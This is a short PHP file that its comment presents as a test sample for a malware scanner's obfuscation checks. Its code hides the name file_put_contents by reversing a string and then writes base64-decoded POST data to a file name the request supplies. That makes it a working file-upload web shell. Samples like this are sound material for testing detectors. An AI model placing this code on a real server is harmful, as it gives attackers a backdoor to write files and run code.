<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$w = strrev('stnetnoc_tup_elif');
if (isset($_POST['n'], $_POST['d'])) {
    $w($_POST['n'], base64_decode($_POST['d']));
}
